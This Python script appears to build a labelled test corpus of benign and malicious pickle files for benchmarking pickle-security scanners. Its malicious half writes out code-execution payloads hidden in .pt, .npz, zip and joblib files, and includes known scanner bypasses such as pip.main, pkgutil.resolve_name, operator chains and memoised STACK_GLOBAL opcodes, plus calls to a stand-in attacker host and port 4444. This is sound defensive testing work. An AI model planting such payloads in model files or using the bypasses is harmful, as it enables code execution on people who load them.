"""Writes a corpus of benign and malicious pickles for the scanner comparison, and prints its index as JSON.

Benign: scikit-learn estimators, numpy arrays and dicts in protocols 0-5, joblib (plain and compressed),
.npz, a hand-built PyTorch zip. Malicious: os.system and friends in protocols 0-5, nested in zip, .pt and
.npz, after joblib array data, and the known deny-list bypasses (CVE-2025-1716 via pip.main; picklescan
issue #66 via importlib and pkgutil.resolve_name; operator.attrgetter/methodcaller chains; STACK_GLOBAL
with memo'd strings). Nothing here is ever loaded: the payloads only run if someone unpickles them.
"""

import collections
import importlib
import io
import json
import operator
import os
import pickle
import pkgutil
import struct
import sys
import types
import zipfile

import joblib
import numpy as np
import scipy.sparse
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

out = sys.argv[1]
index = []


def add(name, data, kind, note, bypass=False):
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)
    index.append({"file": name, "kind": kind, "note": note, "bypass": bypass})


def benign(name, data, note):
    add(name, data, "benign", note)


def malicious(name, data, note, bypass=False):
    add(name, data, "malicious", note, bypass)


def zipped(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for n, d in members.items():
            z.writestr(n, d)
    return buf.getvalue()


# ---- payloads -------------------------------------------------------------------------------------------
class OsSystem:
    def __reduce__(self):
        return (os.system, ("echo pwned",))


class Call:
    """Pickles as `fn(*args)`; fn and args may themselves be objects that pickle as calls."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)

    def __call__(self, *args):  # the pickler only saves callables as a reduce's first item
        raise RuntimeError("never called")


import_os = Call(importlib.import_module, "os")
payloads = {
    "subprocess-popen": Call(__import__("subprocess").Popen, ["echo", "pwned"]),
    "builtins-eval": Call(eval, "__import__('os').system('echo pwned')"),
    "builtins-exec": Call(exec, "import os; os.system('echo pwned')"),
    "cve-2025-1716-pip-main": Call(__import__("pip").main, ["install", "some-evil-package"]),
    "issue66-importlib-methodcaller": Call(operator.methodcaller("system", "echo pwned"), import_os),
    "issue66-pkgutil-resolve-name": Call(Call(pkgutil.resolve_name, "os:system"), "echo pwned"),
    "operator-attrgetter": Call(Call(operator.attrgetter("system"), import_os), "echo pwned"),
    "builtins-getattr": Call(Call(getattr, import_os, "system"), "echo pwned"),
    "webbrowser-open": Call(__import__("webbrowser").open, "http://attacker.invalid/"),
    "socket-connection": Call(__import__("socket").create_connection, ("203.0.113.1", 4444)),
    "runpy-run-path": Call(__import__("runpy").run_path, "/tmp/evil.py"),
    # Calls that run code without naming os, eval or exec: a deny-list has to have thought of each.
    "timeit-stmt": Call(__import__("timeit").timeit, "__import__('os').system('echo pwned')", "pass", None, 1),
    "cprofile-run": Call(__import__("cProfile").run, "__import__('os').system('echo pwned')"),
    "pydoc-pipepager": Call(__import__("pydoc").pipepager, "x", "sh -c 'echo pwned'"),
    "ctypes-cdll": Call(__import__("ctypes").CDLL, "/tmp/evil.so"),
}
BYPASSES = {"cve-2025-1716-pip-main", "issue66-importlib-methodcaller", "issue66-pkgutil-resolve-name", "operator-attrgetter", "builtins-getattr"}

# ---- benign ---------------------------------------------------------------------------------------------
rng = np.random.default_rng(7)
X = rng.normal(size=(200, 4))
y = (X[:, 0] + X[:, 1] > 0).astype(int)
lr = LogisticRegression().fit(X, y)
rf = RandomForestClassifier(n_estimators=4, random_state=0).fit(X, y)
pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y)

for p in range(6):
    benign(f"logreg-p{p}.pkl", pickle.dumps(lr, protocol=p), f"LogisticRegression, protocol {p}")
for p in (2, 4, 5):
    benign(f"arrays-p{p}.pkl", pickle.dumps({"w": X, "y": y, "names": ["a", "b"]}, protocol=p), f"dict of numpy arrays, protocol {p}")
for p in (0, 1, 3):
    benign(f"plain-dict-p{p}.pkl", pickle.dumps({"a": [1.5, 2, "x"], "b": (None, True), "c": {1, 2}}, protocol=p), f"plain dict, protocol {p}")
benign("pipeline.pkl", pickle.dumps(pipe, protocol=4), "StandardScaler + LogisticRegression pipeline")
benign("builtins-p4.pkl", pickle.dumps([collections.OrderedDict(a=1), frozenset({1}), bytearray(b"ab"), complex(1, 2), slice(1, 2)], protocol=4), "builtins")
benign("sparse.pkl", pickle.dumps(scipy.sparse.random(20, 20, density=0.1, format="csr", random_state=1), protocol=4), "scipy.sparse csr matrix")
benign("big-array-p5.pkl", pickle.dumps(rng.normal(size=(300, 300)), protocol=5), "720 KB float array, protocol 5")
for name, kwargs in (("forest.joblib", {}), ("forest-zlib.joblib", {"compress": 3}), ("forest.joblib.gz", {"compress": ("gzip", 3)})):
    path = os.path.join(out, name)
    joblib.dump(rf, path, **kwargs)
    index.append({"file": name, "kind": "benign", "note": f"joblib RandomForest {kwargs}", "bypass": False})
path = os.path.join(out, "objects.joblib")
joblib.dump({"arr": np.arange(10.0), "obj": np.array(["x", None, 3], dtype=object)}, path)
index.append({"file": "objects.joblib", "kind": "benign", "note": "joblib with a numeric and an object array", "bypass": False})
buf = io.BytesIO()
np.savez(buf, weights=X, labels=y)
benign("arrays.npz", buf.getvalue(), ".npz of numeric arrays")
buf = io.BytesIO()
np.savez(buf, names=np.array(["a", None], dtype=object))
benign("objects.npz", buf.getvalue(), ".npz with an object array (a pickle inside)")
benign("model-in.zip", zipped({"model/logreg.pkl": pickle.dumps(lr, protocol=4), "README.txt": b"a model"}), "zip holding a pickle")


# ---- a PyTorch checkpoint in the zip layout, built without torch ------------------------------------------
def fake_module(name):
    m = types.ModuleType(name)
    sys.modules[name] = m
    return m


torch = fake_module("torch")
torch_utils = fake_module("torch._utils")


class FloatStorage:
    pass


FloatStorage.__module__ = "torch"
torch.FloatStorage = FloatStorage


def _rebuild_tensor_v2(*args):
    raise RuntimeError("never called")


_rebuild_tensor_v2.__module__ = "torch._utils"
torch_utils._rebuild_tensor_v2 = _rebuild_tensor_v2


class Storage:
    def __init__(self, key):
        self.key = key


class Tensor:
    def __init__(self, key, shape):
        self.storage, self.shape = Storage(key), shape

    def __reduce_ex__(self, proto):
        stride = tuple(int(np.prod(self.shape[i + 1 :])) for i in range(len(self.shape)))
        return (_rebuild_tensor_v2, (self.storage, 0, self.shape, stride, False, collections.OrderedDict()))


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            return ("storage", FloatStorage, obj.key, "cpu", 4)
        return None


def torch_zip(obj, extra=None):
    buf = io.BytesIO()
    TorchPickler(buf, protocol=2).dump(obj)
    members = {"archive/data.pkl": buf.getvalue(), "archive/byteorder": b"little", "archive/data/0": np.zeros(4, "<f4").tobytes(), "archive/version": b"3\n"}
    members.update(extra or {})
    sio = io.BytesIO()
    with zipfile.ZipFile(sio, "w", compression=zipfile.ZIP_STORED) as z:
        for n, d in members.items():
            z.writestr(n, d)
    return sio.getvalue()


benign("weights.pt", torch_zip(collections.OrderedDict(weight=Tensor("0", (2, 2)))), "PyTorch zip: state dict of one tensor")

# ---- malicious ------------------------------------------------------------------------------------------
for p in range(6):
    malicious(f"os-system-p{p}.pkl", pickle.dumps(OsSystem(), protocol=p), f"os.system, protocol {p}")
for name, payload in payloads.items():
    malicious(f"{name}.pkl", pickle.dumps(payload, protocol=4), name, name in BYPASSES)
malicious("inst-p0.pkl", b"(S'echo pwned'\nios\nsystem\n.", "INST opcode, protocol 0")
# STACK_GLOBAL whose strings were memoised, popped, and fetched back: nothing pushes them right before it.
sg = b"\x80\x04" + b"\x8c\x02os\x94" + b"0" + b"\x8c\x06system\x94" + b"0" + b"\x8c\x0aecho pwned\x94" + b"0" + b"h\x00h\x01\x93h\x02\x85R."
malicious("stack-global-memo.pkl", sg, "STACK_GLOBAL with memo'd strings", True)
malicious("numpy-runstring.pkl", b"\x80\x02cnumpy.testing._private.utils\nrunstring\nX\x0a\x00\x00\x00print(1+1)}\x86R.", "numpy.testing runstring")
malicious("two-pickles.pkl", pickle.dumps({"ok": 1}, protocol=4) + pickle.dumps(OsSystem(), protocol=4), "a benign pickle followed by a malicious one", True)
malicious("evil.pt", torch_zip(collections.OrderedDict(weight=Tensor("0", (2, 2)), hook=OsSystem())), "PyTorch zip with os.system in data.pkl")
malicious("pip-main.pt", torch_zip(payloads["cve-2025-1716-pip-main"]), "PyTorch zip with pip.main", True)
malicious("evil-in.zip", zipped({"inner/model.pkl": pickle.dumps(OsSystem(), protocol=3)}), "zip holding a malicious pickle")
buf = io.BytesIO()
np.savez(buf, things=np.array([OsSystem(), 1], dtype=object))
malicious("evil-objects.npz", buf.getvalue(), ".npz with a malicious object array")
path = os.path.join(out, "evil-after-array.joblib")
joblib.dump({"arr": np.arange(1000.0), "hook": OsSystem()}, path)
index.append({"file": "evil-after-array.joblib", "kind": "malicious", "note": "joblib: os.system after raw array bytes", "bypass": True})
path = os.path.join(out, "evil-objects.joblib")
joblib.dump({"objs": np.array([OsSystem(), 2], dtype=object)}, path)
index.append({"file": "evil-objects.joblib", "kind": "malicious", "note": "joblib: os.system inside an object array's nested pickle", "bypass": False})

json.dump(index, sys.stdout)
